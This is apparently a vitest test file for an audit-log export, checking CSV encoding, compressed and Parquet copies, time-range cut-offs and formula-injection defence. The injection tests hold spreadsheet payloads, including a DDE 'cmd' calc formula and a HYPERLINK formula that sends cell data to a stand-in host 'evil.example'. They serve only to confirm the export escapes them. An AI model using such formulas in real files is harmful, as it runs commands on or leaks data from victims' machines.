/** The exported file: its form to the byte, what it holds, what a spreadsheet must not run, and the months it is cut at. */
import { gunzipSync, zstdDecompressSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type AuditGateway, type AuditOrganisation, startAuditGateway } from './support/audit-gateway.ts';
import { ask, auditLogOf, ingest, type Query } from './support/audit-http.ts';
import { readParquet } from './support/read-parquet.ts';
import { idOf, ndjson, type WireEvent, wireEvent, wireEvents } from './support/wire-events.ts';

let gateway: AuditGateway;
let organisation: AuditOrganisation;
let log: ReturnType<typeof auditLogOf>;

beforeAll(async () => {
  gateway = await startAuditGateway();
});
afterAll(async () => gateway.close());

/** A new organisation whose log of Backlog has these events. */
async function given(events: readonly WireEvent[]): Promise<void> {
  organisation = await gateway.newOrganisation();
  log = auditLogOf(() => gateway.process, organisation.apiKey);
  const outcome = await ingest(gateway.process.baseUrl, organisation.eventKey, ndjson(events));
  expect(outcome).toMatchObject({ accepted: events.length, rejected: [] });
}

async function csv(query: Query = {}): Promise<string> {
  return (await log.download({ product: 'Backlog', ...query })).toString('utf8');
}

/** As any reader of RFC 4180 sees it. */
async function rows(query: Query = {}): Promise<Record<string, string>[]> {
  return parse(await csv(query), { columns: true, bom: true, record_delimiter: '\r\n' });
}

const tenColumns = [
  'product',
  'date',
  'category',
  'event',
  'action',
  'operation_user_id',
  'operation_user_name',
  'operation_user_email',
  'ip_address',
  'user_agent',
];

describe('the CSV file', () => {
  const nasty = [
    'plain',
    'comma, and comma',
    'a "quoted" word',
    '"',
    '""',
    'line\nbreak',
    'line\r\nbreak',
    'a\ttab',
    '表予申ソ Ⅷ ㈱ 髙﨑',
    '👩‍👩‍👧 emoji 🚀',
    '\u202e right to left',
    'NUL \u0000 inside',
    " an apostrophe ' and a backslash \\",
    'ends with a space ',
    '　',
  ];
  const events = nasty.map((text, index) =>
    wireEvent({
      id: idOf(`nasty ${index}`),
      occurredAt: new Date(Date.UTC(2026, 4, 1, 0, 0, nasty.length - index, 999)).toISOString(),
      action: text,
      operationUserId: text,
      operationUserName: text,
      operationUserEmail: text,
      userAgent: text,
      spaceKey: text,
    }),
  );
  beforeAll(async () => given(events));

  it('has the ten columns, in their order, and nothing else', async () => {
    const text = await csv();
    expect(text.slice(0, text.indexOf('\r\n'))).toBe(tenColumns.join(','));
    expect(Object.keys((await rows())[0] ?? {})).toEqual(tenColumns);
  });

  it('gives every text back as it was: commas, quotes, line breaks, any language', async () => {
    const read = await rows();
    expect(read).toHaveLength(nasty.length);
    for (const [index, row] of read.entries()) {
      const text = nasty[index];
      expect(row).toEqual({
        product: 'Backlog',
        date: `2026-05-01T00:00:${String(nasty.length - index).padStart(2, '0')}Z`,
        category: 'Issue',
        event: 'Update an issue',
        action: text,
        operation_user_id: text,
        operation_user_name: text,
        operation_user_email: text,
        ip_address: '192.0.2.15',
        user_agent: text,
      });
    }
  });

  it('ends every line with CRLF, the last one too', async () => {
    const text = await csv({ to: '2026-05-01T00:00:06Z' });
    expect(text.endsWith('"\r\n')).toBe(true);
    expect((await csv({ text: 'plain' })).split('\r\n')).toHaveLength(3);
    expect((await csv({ text: 'plain' })).split('\n')).toHaveLength(3);
  });

  it('starts with a byte order mark when asked, with the header when not', async () => {
    const marked = await log.download({ bom: 'true' });
    expect([...marked.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect((await log.download({ bom: 'false' })).subarray(0, 8).toString()).toBe('product,');
    expect((await rows({ bom: 'true' })).length).toBe(nasty.length);
  });

  it('has id and space before the ten columns and the version behind them, in full', async () => {
    const read = await rows({ preset: 'full' });
    expect(Object.keys(read[0] ?? {})).toEqual(['id', 'space_key', ...tenColumns, 'version']);
    expect(read.map(({ id, space_key, version }) => [id, space_key, version])).toEqual(
      events.map(({ id, spaceKey }) => [id, spaceKey, 'V1']),
    );
  });

  it('is oldest first when asked', async () => {
    expect((await rows({ order: 'oldest-first' })).map(({ action }) => action)).toEqual(nasty.toReversed());
  });

  it('is only its header when nothing matches', async () => {
    expect(await csv({ text: 'nothing of the sort' })).toBe(`${tenColumns.join(',')}\r\n`);
  });

  it.each([
    ['csv', 'none', 'text/csv; charset=utf-8', 'csv'],
    ['csv', 'gzip', 'application/gzip', 'csv.gz'],
    ['ndjson', 'zstd', 'application/zstd', 'ndjson.zst'],
    ['ndjson', 'none', 'application/x-ndjson; charset=utf-8', 'ndjson'],
    ['parquet', 'none', 'application/vnd.apache.parquet', 'parquet'],
  ])('as %s packed with %s says what it is and has a name', async (format, compression, type, ending) => {
    const reply = await ask(gateway.process.baseUrl, organisation.apiKey, 'export', { format, compression });
    expect(reply.headers['content-type']).toBe(type);
    expect(reply.headers['content-disposition']).toMatch(new RegExp(`auditlog-\\d{8}T\\d{6}Z\\.${ending}`));
  });

  it('is the same bytes packed as plain', async () => {
    const plain = await csv();
    const of = (compression: string) => log.download({ product: 'Backlog', compression });
    expect(gunzipSync(await of('gzip')).toString()).toBe(plain);
    expect(zstdDecompressSync(await of('zstd')).toString()).toBe(plain);
  });

  it('has a twin in NDJSON and in Parquet, with every value as it was sent and times in milliseconds', async () => {
    const lines = (await log.download({ product: 'Backlog', format: 'ndjson' })).toString().trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(
      events.map((event) => ({ ...event, product: 'Backlog', version: 'V1' })),
    );
    const parquet = await readParquet(await log.download({ product: 'Backlog', format: 'parquet' }));
    expect(parquet).toHaveLength(events.length);
    expect(parquet.map(({ id, action, user_agent }) => [id, action, user_agent])).toEqual(
      events.map(({ id, action, userAgent }) => [id, action, userAgent]),
    );
    expect(parquet.map(({ date }) => Date.parse(date ?? ''))).toEqual(
      events.map(({ occurredAt }) => Date.parse(occurredAt)),
    );
  });

  it('can be sent again as NDJSON, and is known event by event', async () => {
    const file = await log.download({ product: 'Backlog', format: 'ndjson' });
    expect(await ingest(gateway.process.baseUrl, organisation.eventKey, file)).toEqual({
      accepted: 0,
      duplicates: events.length,
      rejected: [],
    });
  });
});

describe('a range', () => {
  const times = [
    '2026-04-30T14:59:59.999Z',
    '2026-04-30T15:00:00.000Z',
    '2026-04-30T23:59:59.998Z',
    '2026-04-30T23:59:59.999Z',
    '2026-05-01T00:00:00.000Z',
    '2026-05-01T00:00:00.001Z',
    '2026-05-31T14:59:59.999Z',
    '2026-05-31T15:00:00.000Z',
    '2026-05-31T23:59:59.999Z',
    '2026-06-01T00:00:00.000Z',
  ];
  beforeAll(async () =>
    given(times.map((occurredAt) => wireEvent({ id: idOf(occurredAt), occurredAt, action: occurredAt }))),
  );

  it.each([
    ['May in UTC', '2026-05-01T00:00:00.000Z', '2026-06-01T00:00:00.000Z', 4, 9],
    ['May in Japan', '2026-04-30T15:00:00.000Z', '2026-05-31T15:00:00.000Z', 1, 7],
    ['the last millisecond of April', '2026-04-30T23:59:59.999Z', '2026-05-01T00:00:00.000Z', 3, 4],
    ['the first millisecond of May', '2026-05-01T00:00:00.000Z', '2026-05-01T00:00:00.001Z', 4, 5],
    ['seconds, without milliseconds', '2026-04-30T23:59:59Z', '2026-05-01T00:00:00Z', 2, 4],
  ])('%s holds exactly its events, in every form', async (_what, from, to, first, end) => {
    const expected = times.slice(first, end);
    const query = { product: 'Backlog', from, to, order: 'oldest-first' };
    expect((await rows(query)).map(({ action }) => action)).toEqual(expected);
    const lines = (await log.download({ ...query, format: 'ndjson' })).toString().trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line).occurredAt)).toEqual(expected);
    const parquet = await readParquet(await log.download({ ...query, format: 'parquet' }));
    expect(parquet.map(({ action }) => action)).toEqual(expected);
    expect(await log.count({ product: 'Backlog', from, to })).toBe(expected.length);
  });
});

describe('a cell that a spreadsheet would run', () => {
  /** What a product can be made to log: everything but names of the catalogue, times and addresses. */
  const open = [
    'action',
    'operation_user_id',
    'operation_user_name',
    'operation_user_email',
    'user_agent',
    'space_key',
  ];
  const starts = ['=', '+', '-', '@', '\t', '\r', '\u0001', '＝', '＋', '－', '＠', '\u2212'];
  const attacks = starts.flatMap((start) => [
    `${start}1+1`,
    `${start}cmd|' /C calc'!A0`,
    `${start}HYPERLINK("https://evil.example/?"&A1,"見る")`,
    start,
  ]);
  const events = attacks.map((cell, index) =>
    wireEvent({
      id: idOf(`attack ${index}`),
      occurredAt: new Date(Date.UTC(2026, 4, 1, 0, index)).toISOString(),
      action: cell,
      operationUserId: cell,
      operationUserName: cell,
      operationUserEmail: cell,
      userAgent: cell,
      spaceKey: cell,
    }),
  );
  beforeAll(async () => given(events));

  it('has an apostrophe before it in the CSV, in every column that is open to it', async () => {
    const read = await rows({ preset: 'full', order: 'oldest-first' });
    expect(read).toHaveLength(attacks.length);
    for (const [index, row] of read.entries()) {
      for (const column of open) expect(row[column], column).toBe(`'${attacks[index]}`);
      for (const cell of Object.values(row)) expect(starts).not.toContain(cell.charAt(0));
    }
  });

  it('has one in Shift_JIS too, which has one code for some characters that are two elsewhere', async () => {
    const query = { product: 'Backlog', preset: 'full', encoding: 'shift_jis' };
    const text = new TextDecoder('shift_jis', { fatal: true }).decode(await log.download(query));
    const read: Record<string, string>[] = parse(text, { columns: true, record_delimiter: '\r\n' });
    expect(read).toHaveLength(attacks.length);
    for (const row of read) {
      for (const column of open) expect(row[column], column).toMatch(/^'/);
    }
  });

  it('is raw in NDJSON and Parquet', async () => {
    const query = { product: 'Backlog', order: 'oldest-first' };
    const lines = (await log.download({ ...query, format: 'ndjson' })).toString().trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toMatchObject(events);
    const parquet = await readParquet(await log.download({ ...query, format: 'parquet' }));
    for (const [index, row] of parquet.entries()) {
      for (const column of open) expect(row[column], column).toBe(attacks[index]);
    }
  });
});

it('is recorded itself: who took what', async () => {
  await given(wireEvents(3));
  await csv({ from: '2026-05-01T00:00:00Z' });
  await expect
    .poll(async () => (await log.all({ event: 'Export the audit log' })).map(({ action }) => action), {
      timeout: 20_000,
    })
    .toEqual(['Audit log of 2026-05-01T00:00:00.000Z/.. was exported as CSV']);
});
